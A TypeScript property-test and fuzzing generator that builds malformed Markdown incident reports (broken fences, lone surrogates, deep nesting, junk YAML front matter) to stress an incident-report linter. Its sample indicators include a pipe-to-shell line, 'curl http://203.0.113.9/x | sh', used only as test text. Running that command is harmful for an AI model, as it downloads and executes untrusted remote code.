// Generators of hostile incident reports for the property suite (test/unit/properties.test.ts) and `npm run fuzz`.
// A document mixes lines of real reports (the corpus) with fragments that have broken the engine or could:
// code fences and HTML holding headings, setext headings, deep lists and quotes, CRLF/CR/LF mixes, astral
// characters and lone surrogates, long lines, shuffled and duplicated sections, and junk YAML front matter.
import fc from 'fast-check';
import type { AnalysisOptions } from '../../src/core/analysis/analyze';
import { RULE_IDS, type SeveritySetting } from '../../src/core/diagnostics';
import { builtinTemplates, TemplateRegistry } from '../../src/core/template/registry';
import type { LoadedTemplate } from '../../src/core/template/resolve';
import type { Template, TemplateSection } from '../../src/core/template/schema';
import { templateFromYaml } from '../unit/helpers';
import type { Corpus } from './corpus';

/** How large the hostile pieces get: the unit suite keeps every case fast, the fuzz script also tries long lines and big YAML. */
export interface Scale {
  /** Longest generated line, in characters. */
  readonly longLine: number;
  /** Most keys (and aliases) in generated front matter. */
  readonly yamlKeys: number;
  /** Most parts (sections or loose blocks) in a document. */
  readonly parts: number;
}

export const UNIT_SCALE: Scale = { longLine: 2_000, yamlKeys: 150, parts: 10 };
export const FUZZ_SCALE: Scale = { longLine: 60_000, yamlKeys: 1_000, parts: 20 };

// --- Workspace templates --------------------------------------------------------------------------------------

/** An operational template whose attack-specific section nests three levels deep, with an enum and a date field. */
const DEEP_OUTAGE = `id: deep-outage
name: Deep outage
kind: operational
title: "Outage: {title}"
sections:
  - title: Summary
    aliases: [Overview]
    required: true
    placeholder: One paragraph on what happened.
  - title: Threat Analysis
    aliases: [Threats]
    required: true
    attackSpecific: true
    sections:
      - title: Adversary
        required: true
        sections:
          - title: Infrastructure
            required: true
            fields:
              - { name: Domains, required: true, placeholder: evil.example }
              - { name: Confidence, type: enum, values: [Low, Medium, High], required: true }
  - title: Root Cause
    aliases: [Cause]
    required: true
    fields:
      - { name: Start, type: date, required: true, placeholder: YYYY-MM-DD }
  - title: Notes
`;

/**
 * Replaces the built-in security template: bare sections (no placeholder, no field) nested five deep, so a report
 * whose sections start at ### needs headings deeper than Markdown's six levels.
 */
const BARE_SECURITY = `id: security-incident
name: Bare security incident
kind: security
sections:
  - title: Executive Summary
    required: true
  - title: Attack Methodology
    required: true
    attackSpecific: true
    sections:
      - title: Tactics
        required: true
        sections:
          - title: Techniques
            required: true
            sections:
              - title: Procedures
                required: true
                sections:
                  - title: Observables
                    required: true
  - title: Indicators of Compromise
    required: true
    attackSpecific: true
  - title: Recommendations
    required: true
`;

function workspaceTemplate(yaml: string): LoadedTemplate {
  return templateFromYaml(yaml);
}

/** The template sets a case can be analysed with, by name so that a counterexample prints as plain JSON. */
export const REGISTRIES = {
  builtin: new TemplateRegistry(),
  'with deep-outage': new TemplateRegistry([workspaceTemplate(DEEP_OUTAGE)]),
  'bare security-incident': new TemplateRegistry([workspaceTemplate(BARE_SECURITY), workspaceTemplate(DEEP_OUTAGE)]),
} as const;
type RegistryName = keyof typeof REGISTRIES;

const ALL_TEMPLATES: readonly Template[] = [...builtinTemplates().map((t) => t.template), ...Object.values(REGISTRIES).flatMap((r) => r.list().map((t) => t.template))];

/** The clock every case runs with, so that `timeline.future-date` is deterministic. */
const NOW = new Date('2026-11-23T12:00:00Z');

/** What a case is analysed with: printable, turned into `AnalysisOptions` by `analysisOptions`. */
export interface Setup {
  readonly registry: RegistryName;
  readonly rules: Readonly<Record<string, SeveritySetting>>;
  /** The N/A reason of the commands and of the N/A fixes. */
  readonly reason: string;
}

export function analysisOptions(setup: Setup): AnalysisOptions {
  return { templates: REGISTRIES[setup.registry], rules: setup.rules, now: NOW, notApplicableReason: setup.reason };
}

export const setupArbitrary: fc.Arbitrary<Setup> = fc.record({
  registry: fc.constantFrom<RegistryName>('builtin', 'with deep-outage', 'bare security-incident'),
  rules: fc.oneof(
    { arbitrary: fc.constant({}), weight: 4 },
    { arbitrary: fc.dictionary(fc.constantFrom(...RULE_IDS), fc.constantFrom<SeveritySetting>('off', 'error', 'hint'), { maxKeys: 4 }), weight: 1 },
  ),
  reason: fc.constantFrom('operational incident, not an attack', '', 'r', '(a reason in parentheses).', 'cost $& and $` and $1', 'outage 🔥 \uD83D', 'N/A'),
});

// --- Vocabulary --------------------------------------------------------------------------------------------------

interface SectionTitle {
  readonly title: string;
  /** 0 for a top-level template section, 1 for its subsections, … */
  readonly depth: number;
}

function sectionTitles(sections: readonly TemplateSection[], depth = 0): SectionTitle[] {
  return sections.flatMap((section) => [
    ...[section.title, ...(section.aliases ?? [])].map((title) => ({ title, depth })),
    ...sectionTitles(section.sections, depth + 1),
  ]);
}

const unique = <T>(values: readonly T[]): T[] => [...new Set(values)];
const TITLES: readonly SectionTitle[] = unique(ALL_TEMPLATES.flatMap((t) => sectionTitles(t.sections)).map((t) => JSON.stringify(t))).map((t) => JSON.parse(t) as SectionTitle);
const FIELDS = ALL_TEMPLATES.flatMap((t) => allSections(t.sections).flatMap((s) => s.fields));
const FIELD_NAMES = unique(FIELDS.flatMap((f) => [f.name, ...(f.aliases ?? [])]));
const PLACEHOLDERS = unique(ALL_TEMPLATES.flatMap((t) => allSections(t.sections).flatMap((s) => [s.placeholder, ...s.fields.map((f) => f.placeholder)])).filter((p): p is string => !!p));
const ENUM_VALUES = unique(FIELDS.flatMap((f) => f.values ?? []));

function allSections(sections: readonly TemplateSection[]): TemplateSection[] {
  return sections.flatMap((section) => [section, ...allSections(section.sections)]);
}

/** A near miss of a word: one character dropped, doubled or swapped with the next. */
function misspelled(word: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc.tuple(word, fc.nat(), fc.constantFrom('drop', 'double', 'swap')).map(([w, at, how]) => {
    const i = at % Math.max(1, w.length - 1);
    if (how === 'drop') return w.slice(0, i) + w.slice(i + 1);
    if (how === 'double') return w.slice(0, i + 1) + w.slice(i);
    return w.slice(0, i) + w.charAt(i + 1) + w.charAt(i) + w.slice(i + 2);
  });
}

/** Text that has broken string handling before: replacement patterns, astral characters, lone surrogates. */
const TRICKY_TEXT = [
  'cost $& and $` and $\' and $1 and $$',
  'emoji 😀 and 👩‍💻 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'lone high \uD83D surrogate',
  'lone low \uDE00 surrogate',
  '\uDE00',
  '\uD83D',
  'tab\tseparated\ttext',
  'zero\u200Bwidth and \u00A0non-breaking',
  'TODO: finish this',
  'FIXME XXX TBD',
  'Nov 14 at 09:12',
  '03/04/2024',
];

const IOCS = ['198.51.100.7', 'evil.example.com', 'hxxps://evil[.]example/path', 'd41d8cd98f00b204e9800998ecf8427e', 'C:\\Windows\\Temp\\x.exe', '`curl http://203.0.113.9/x | sh`'];

const FIELD_VALUES = fc.oneof(
  fc.constantFrom('', 'N/A', 'n/a (not an attack)', 'Not applicable.', 'TBD', 'Unknown', '2024-03-14 09:30 UTC', 'March 2, 2024', 'sometime last week', '2099-01-01 10:00', '03/04/2024 10:00', 'TLP:WHITE', 'escalated', 'resolved', '*Resolved*'),
  fc.constantFrom(...PLACEHOLDERS),
  fc.constantFrom(...ENUM_VALUES),
  fc.constantFrom(...TRICKY_TEXT, ...IOCS),
);

// --- Lines and blocks ----------------------------------------------------------------------------------------------

type Lines = readonly string[];

const titleText = (corpusHeadings: readonly string[]): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...TITLES.map((t) => t.title)), weight: 8 },
    { arbitrary: misspelled(fc.constantFrom(...TITLES.map((t) => t.title))), weight: 2 },
    { arbitrary: fc.constantFrom(...corpusHeadings), weight: 1 },
    { arbitrary: fc.constantFrom(...TRICKY_TEXT), weight: 1 },
    { arbitrary: fc.constantFrom(...TITLES.map((t) => t.title)).map((t) => `**${t}**`), weight: 1 },
  );

type HeadingStyle = 'atx' | 'closed' | 'indented' | 'setext';
const headingStyle = fc.constantFrom<HeadingStyle>('atx', 'atx', 'atx', 'atx', 'closed', 'indented', 'setext');

/** An ATX heading (with the odd closing hashes or leading spaces) or, for levels 1 and 2, a setext one. */
function headingLines(level: number, text: string, style: HeadingStyle): Lines {
  if (style === 'setext' && level <= 2) return [text, (level === 1 ? '=' : '-').repeat(Math.max(3, text.length))];
  if (style === 'closed') return [`${'#'.repeat(level)} ${text} ${'#'.repeat(level)}`];
  if (style === 'indented') return [`   ${'#'.repeat(level)} ${text}`];
  return [`${'#'.repeat(level)} ${text}`];
}

function fieldLines(): fc.Arbitrary<Lines> {
  const name = fc.oneof({ arbitrary: fc.constantFrom(...FIELD_NAMES), weight: 6 }, { arbitrary: misspelled(fc.constantFrom(...FIELD_NAMES)), weight: 1 });
  const forms: readonly ((name: string, value: string) => string)[] = [
    (n, v) => `- **${n}:** ${v}`,
    (n, v) => `- **${n}**: ${v}`,
    (n, v) => `* __${n}:__ ${v}`,
    (n, v) => `- ${n}: ${v}`,
    (n, v) => `1. **${n}:** ${v}`,
    (n, v) => `- [ ] **${n}:** ${v}`,
  ];
  const line = fc.tuple(name, FIELD_VALUES, fc.constantFrom(...forms)).map(([n, v, form]) => form(n, v).trimEnd());
  return fc.array(line, { minLength: 1, maxLength: 8 });
}

/** Consecutive lines of one real report. */
function corpusRun(corpus: Corpus, maxLength: number): fc.Arbitrary<Lines> {
  return fc.tuple(fc.nat(corpus.length - 1), fc.nat(), fc.integer({ min: 1, max: maxLength })).map(([file, start, length]) => {
    const lines = corpus[file];
    const from = start % lines.length;
    return lines.slice(from, from + length);
  });
}

/** What a long line is made of: plain text, or the shapes that made regexes backtrack. */
function longLine(scale: Scale): fc.Arbitrary<Lines> {
  const length = fc.oneof({ arbitrary: fc.integer({ min: 200, max: Math.min(5_000, scale.longLine) }), weight: 10 }, { arbitrary: fc.integer({ min: 200, max: scale.longLine }), weight: 1 });
  return fc.tuple(length, fc.constantFrom('bold-spaces', 'brackets', 'dated-brackets', 'text', 'pipes', 'stars', 'field')).map(([n, shape]): Lines => {
    switch (shape) {
      case 'bold-spaces':
        return [`- **${' '.repeat(n)}`];
      case 'brackets':
        return ['['.repeat(n)];
      case 'dated-brackets':
        return [`- 2024-03-14 09:30 UTC — ${'['.repeat(n)}`];
      case 'pipes':
        return [`| ${'a |'.repeat(n / 3)}`];
      case 'stars':
        return ['*_'.repeat(n / 2)];
      case 'field':
        return [`- **Details:** ${'word '.repeat(n / 5)}`];
      default:
        return ['lorem ipsum dolor sit amet '.repeat(Math.ceil(n / 27)).slice(0, n)];
    }
  });
}

const INSIDE_CODE = ['## Indicators of Compromise', '# Incident Report: inside a fence', '### Initial Access', '- **Network indicators:** 198.51.100.7', ...IOCS, '---', 'kind: operational', '<!-- incident-report-disable -->', 'TODO not a real todo'];

/** A fenced code block holding headings and IOCs, sometimes never closed. */
const fence: fc.Arbitrary<Lines> = fc
  .tuple(fc.constantFrom('```', '~~~', '````', '   ```'), fc.constantFrom('', 'text', 'yaml', 'log'), fc.array(fc.constantFrom(...INSIDE_CODE), { minLength: 1, maxLength: 6 }), fc.boolean())
  .map(([marker, info, inner, closed]) => [marker + info, ...inner, ...(closed ? [marker.trim()] : [])]);

/** An indented code block: four spaces or a tab before each line. */
const indentedCode: fc.Arbitrary<Lines> = fc
  .tuple(fc.constantFrom('    ', '\t', '        '), fc.array(fc.constantFrom(...INSIDE_CODE), { minLength: 1, maxLength: 5 }))
  .map(([indent, inner]) => inner.map((line) => indent + line));

const html: fc.Arbitrary<Lines> = fc.constantFrom<Lines>(
  ['<!-- a comment -->'],
  ['<!--', '## A heading in a comment', 'TODO in a comment', '-->'],
  ['<!-- incident-report-disable -->'],
  ['<!-- incident-report-disable section.missing, content.todo -->'],
  ['<!-- incident-report-disable section.* -->'],
  ['<!-- incident-report-disable field.empty'],
  ['<div>', '## Not a heading inside HTML', '- **Vector:** in html', '</div>'],
  ['<details>', '<summary>IOCs</summary>', '', '- 198.51.100.7', '', '</details>'],
  ['<!-- never closed', '## Executive Summary'],
  ['<script>', 'let x = "## Recommendations";', '</script>'],
  ['<br>'],
);

const setext: (titles: fc.Arbitrary<string>) => fc.Arbitrary<Lines> = (titles) =>
  fc.tuple(fc.array(titles, { minLength: 1, maxLength: 2 }), fc.constantFrom('=', '-'), fc.integer({ min: 1, max: 30 })).map(([text, mark, length]) => [...text, mark.repeat(length)]);

const table: fc.Arbitrary<Lines> = fc
  .tuple(fc.array(fc.tuple(fc.constantFrom('2024-03-14 09:30 UTC', 'Nov 14', '03/04/2024', ...TRICKY_TEXT), fc.constantFrom(...IOCS, 'rolled back', '\\| escaped pipe')), { maxLength: 5 }), fc.boolean())
  .map(([rows, delimiter]) => ['| Time | Event |', ...(delimiter ? ['|------|-------|'] : []), ...rows.map(([a, b]) => `| ${a} | ${b} |`)]);

/** Lists nested 10–40 levels deep, or items indented far enough to be code. */
const deepList: fc.Arbitrary<Lines> = fc.oneof(
  fc.tuple(fc.integer({ min: 10, max: 40 }), fc.constantFrom('  ', '    ', '\t'), fc.constantFrom('-', '*', '1.')).map(([depth, unit, marker]) =>
    Array.from({ length: depth }, (_, i) => `${unit.repeat(i)}${marker} level ${i} 198.51.100.${i}`),
  ),
  fc.tuple(fc.integer({ min: 4, max: 60 }), fc.constantFrom('- far item', '- **Vector:** far field', '1. far step')).map(([indent, item]): Lines => ['- top item', `${' '.repeat(indent)}${item}`]),
  fc.integer({ min: 4, max: 60 }).map((indent): Lines => [`${' '.repeat(indent)}- an item indented ${indent} spaces`]),
);

const quote = (inner: fc.Arbitrary<Lines>): fc.Arbitrary<Lines> =>
  fc.tuple(fc.integer({ min: 1, max: 12 }), inner, fc.boolean()).map(([depth, lines, spaced]) => lines.map((line) => (spaced ? '> ' : '>').repeat(depth) + line));

const thematicBreak: fc.Arbitrary<Lines> = fc.constantFrom<Lines>(['---'], ['***'], ['___'], ['- - -'], ['#######'], ['#'], ['##']);

// --- Front matter ----------------------------------------------------------------------------------------------------

function frontMatterBody(scale: Scale): fc.Arbitrary<Lines> {
  const keyLine = fc.constantFrom<Lines>(
    ['kind: security'], ['kind: operational'], ['kind: Security'], ['kind: [security]'], ['template: security-incident'], ['template: operational-outage'],
    ['template: deep-outage'], ['template: no-such-template'], ['status: draft'], ['status: Final'], ['tlp: TLP:WHITE'], ['tlp: amber'], ['tlp: TLP:RED'],
    ['severity: SEV2'], ['timezone: Europe/Zurich'], ['timezone: Mars/Olympus_Mons'], ['id: INC-1'], ['authors: [a, b]'], ['tags: [a, b]'],
    ['tags: [*nix, windows]'], ['\tkind: security'], ['title: "broken quote'], ["title: 'it''s"], ['kind: security # comment'], ['colour: red'],
    ['a: &a [x]', 'b: *a'], ['cycle: &c', '  self: *c'], ['? complex', ': key'], ['%YAML 1.2'], ['!!binary x'], ['key: $& $`'], ['emoji: 😀 \uD83D'],
    ['- a list', '- not a map'], ['just a scalar'], [':'], ['kind: security', 'kind: operational'],
  );
  const manyAliases = fc.integer({ min: 90, max: Math.max(120, scale.yamlKeys) }).map((n): Lines => ['anchor: &x value', `list: [${Array.from({ length: n }, () => '*x').join(', ')}]`]);
  const deepNesting = fc.integer({ min: 10, max: Math.max(20, scale.yamlKeys) }).map((n): Lines => [`nest: ${'- '.repeat(n)}leaf`]);
  const manyKeys = fc.integer({ min: 20, max: scale.yamlKeys }).map((n): Lines => Array.from({ length: n }, (_, i) => `key${i}: value ${i}`));
  return fc
    .array(fc.oneof({ arbitrary: keyLine, weight: 20 }, { arbitrary: manyAliases, weight: 1 }, { arbitrary: deepNesting, weight: 1 }, { arbitrary: manyKeys, weight: 1 }), { maxLength: 6 })
    .map((groups) => groups.flat());
}

/** `---` YAML `---` (or `...`, or never closed). */
function frontMatter(scale: Scale): fc.Arbitrary<Lines> {
  return fc.tuple(frontMatterBody(scale), fc.constantFrom('---', '---', '---', '...', '--- ', null)).map(([body, close]) => ['---', ...body, ...(close === null ? [] : [close])]);
}

// --- Documents ---------------------------------------------------------------------------------------------------------

/** How lines are joined: one line break everywhere, or a mix of `\n`, `\r\n` and `\r` within the document. */
const lineBreaks: fc.Arbitrary<readonly string[]> = fc.oneof(
  { arbitrary: fc.constantFrom(['\n'], ['\r\n'], ['\r']), weight: 6 },
  { arbitrary: fc.array(fc.constantFrom('\n', '\r\n', '\r'), { minLength: 2, maxLength: 7 }), weight: 2 },
);

function joinLines(lines: Lines, breaks: readonly string[]): string {
  let text = '';
  lines.forEach((line, i) => (text += line + (i < lines.length - 1 ? breaks[i % breaks.length] : '')));
  return text;
}

/** The blocks a section body or the space between sections is made of. */
function block(corpus: Corpus, scale: Scale, titles: fc.Arbitrary<string>): fc.Arbitrary<Lines> {
  const hostile = fc.oneof(fence, indentedCode, html, setext(titles), table, deepList, thematicBreak, fc.constantFrom(...TRICKY_TEXT).map((t): Lines => [t]));
  return fc.oneof(
    { arbitrary: corpusRun(corpus, 12), weight: 10 },
    { arbitrary: fieldLines(), weight: 6 },
    { arbitrary: hostile, weight: 8 },
    { arbitrary: quote(fc.oneof(corpusRun(corpus, 4), fieldLines(), fence, hostile)), weight: 1 },
    { arbitrary: fc.constantFrom(...PLACEHOLDERS, 'N/A', 'N/A (not an attack)', 'Not applicable.').map((t): Lines => [t]), weight: 2 },
    { arbitrary: longLine(scale), weight: 1 },
  );
}

/**
 * A report-shaped document: a title, then sections in any order (duplicates included) whose headings start at a
 * base level of 1 to 4 (a template subsection one level deeper, now and then one level off), each with a body of
 * real lines and hostile blocks; loose blocks without a heading stand between them.
 */
function generatedReport(corpus: Corpus, scale: Scale): fc.Arbitrary<Lines> {
  const corpusHeadings = unique(corpus.flat().filter((line) => /^#{1,6} /.test(line)).map((line) => line.replace(/^#+ /, '')));
  const titles = titleText(corpusHeadings);
  const body = fc.array(block(corpus, scale, titles), { maxLength: 3 });
  const sectionHeading = fc.record({
    entry: fc.constantFrom(...TITLES),
    jitter: fc.constantFrom(0, 0, 0, 0, 0, -1, 1),
    otherTitle: fc.option(titles, { freq: 4 }),
    style: headingStyle,
  });
  const part = fc.tuple(fc.option(sectionHeading, { freq: 5 }), body);
  return fc
    .record({
      base: fc.constantFrom(1, 2, 2, 2, 3, 4),
      title: fc.option(fc.constantFrom<Lines>(['# Incident Report: Generated'], ['# Incident Report: 😀 $& \uD83D'], ['Incident Report: Setext', '==='], ['# Postmortem'], ['## Incident Report: level two']), { freq: 4 }),
      parts: fc.array(part, { maxLength: scale.parts }),
    })
    .map(({ base, title, parts }) => [
      ...(title ?? []),
      ...parts.flatMap(([h, blocks]) => {
        const level = h ? Math.min(6, Math.max(1, base + h.entry.depth + h.jitter)) : 0;
        const headingText = h ? ['', ...headingLines(level, h.otherTitle ?? h.entry.title, h.style)] : [];
        return [...headingText, ...blocks.flatMap((b) => ['', ...b])];
      }),
    ]);
}

/**
 * A stretch of a real report (often all of it: a shorter one is what it shrinks to) with hostile blocks dropped in
 * between its lines, and sometimes two of its sections swapped.
 */
function mutatedReport(corpus: Corpus, scale: Scale): fc.Arbitrary<Lines> {
  const titles = titleText(['Unrelated heading']);
  const stretch = fc.nat(corpus.length - 1).chain((file) =>
    fc.tuple(fc.constant(file), fc.nat(corpus[file].length - 1), fc.oneof({ withCrossShrink: true }, fc.integer({ min: 1, max: corpus[file].length }), fc.constant(corpus[file].length))),
  );
  return fc
    .tuple(stretch, fc.array(fc.tuple(fc.nat(), block(corpus, scale, titles)), { maxLength: 4 }), fc.option(fc.tuple(fc.nat(), fc.nat())))
    .map(([[file, start, length], insertions, swap]) => {
      let lines = corpus[file].slice(length === corpus[file].length ? 0 : start, start + length);
      if (swap) lines = swapSections(lines, swap[0], swap[1]);
      for (const [at, inserted] of insertions) lines.splice(at % (lines.length + 1), 0, '', ...inserted, '');
      return lines;
    });
}

/** Swaps two `## ` sections of a report, so that one stands out of template order. */
function swapSections(lines: string[], a: number, b: number): string[] {
  const starts = lines.flatMap((line, i) => (/^## /.test(line) ? [i] : []));
  if (starts.length < 2) return lines;
  const chunks = [lines.slice(0, starts[0]), ...starts.map((start, i) => lines.slice(start, starts[i + 1] ?? lines.length))];
  const i = 1 + (a % starts.length);
  const j = 1 + (b % starts.length);
  [chunks[i], chunks[j]] = [chunks[j], chunks[i]];
  return chunks.flat();
}

/** A whole document: BOM, front matter, then a generated or mutated report, with its line breaks. */
export function documentArbitrary(corpus: Corpus, scale: Scale): fc.Arbitrary<string> {
  return fc
    .record({
      bom: fc.oneof({ arbitrary: fc.constant(false), weight: 6 }, { arbitrary: fc.constant(true), weight: 1 }),
      frontMatter: fc.option(frontMatter(scale), { freq: 2 }),
      body: fc.oneof({ arbitrary: generatedReport(corpus, scale), weight: 3 }, { arbitrary: mutatedReport(corpus, scale), weight: 1 }),
      breaks: lineBreaks,
      finalBreak: fc.boolean(),
    })
    .map(({ bom, frontMatter: yaml, body, breaks, finalBreak }) => {
      const lines = [...(yaml ?? []), ...body];
      return (bom ? '\uFEFF' : '') + joinLines(lines, breaks) + (finalBreak ? breaks[0] : '');
    });
}
